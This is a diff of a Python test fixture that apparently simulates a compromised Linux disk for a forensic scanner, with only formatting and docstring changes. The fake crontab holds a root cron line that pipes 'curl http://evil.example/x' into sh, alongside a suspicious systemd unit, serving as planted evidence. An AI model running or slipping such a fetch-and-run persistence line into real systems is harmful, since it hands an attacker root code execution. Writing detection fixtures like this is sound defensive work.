@@ -27,7 +27,9 @@ LINUX = {
     "etc/machine-id": b"00112233445566778899aabbccddeeff\n",
     "etc/passwd": b"root:x:0:0::/root:/bin/sh\nan:x:1000:1000:An:/home/an:/bin/sh\n",
     "etc/hosts": b"127.0.0.1 localhost\n198.51.100.66 cong-van.example\n192.0.2.7 may-in\n",
-    "etc/crontab": "# m h dom\n5 * * * * root curl http://evil.example/x | sh\n0 1 * * * root sao-luu # giữ\n".encode(),
+    "etc/crontab": (
+        "# m h dom\n5 * * * * root curl http://evil.example/x | sh\n0 1 * * * root sao-luu # giữ\n".encode()
+    ),
     "etc/cron.d/backup": b"0 2 * * * root /usr/bin/true\n",
     "etc/systemd/system/upd.service": b"[Service]\nExecStart=/home/an/Downloads/upd --quiet\n",
     "usr/bin/ls": b"\x7fELF ls",
@@ -36,7 +38,7 @@ LINUX = {
     "home/an/Downloads/upd": EVIL,
     "home/an/Downloads/thu.txt": b"thu\n",
 }
-"""A disk of a Linux machine: a listed file started by a unit, a cron line and a hosts line to listed places."""
+"""A disk of a Linux: a listed file that a unit starts, a cron line and a hosts line to listed places."""
 
 
 def linux(root: Path) -> Path:
@@ -71,8 +73,10 @@ def windows(root: Path, *signs: str) -> Path:
 
 
 def snapshot(root: Path) -> dict[str, tuple[Any, ...]]:
-    """Everything but our own folder: content, rights, owner, time, attributes. Hives are changed in place, and
-    their time tells so; every other file must keep its own."""
+    """Everything but our own folder: content, rights, owner, time, attributes.
+
+    Hives are changed in place, and their time tells so; every other file must keep its own.
+    """
     found: dict[str, tuple[Any, ...]] = {}
     for place in sorted(root.rglob("*")):
         name = place.relative_to(root).as_posix()
@@ -85,8 +89,8 @@ def snapshot(root: Path) -> dict[str, tuple[Any, ...]]:
         time = 0 if place.name in HIVES else told.st_mtime_ns
         attributes = {one: os.getxattr(place, one) for one in os.listxattr(place)}
         found[name] = (
-            hashlib.sha256(place.read_bytes()).hexdigest(), told.st_mode, told.st_uid, told.st_gid, time, attributes,
-            told.st_nlink,
+            hashlib.sha256(place.read_bytes()).hexdigest(), told.st_mode, told.st_uid, told.st_gid, time,
+            attributes, told.st_nlink,
         )  # fmt: skip
     return found
 
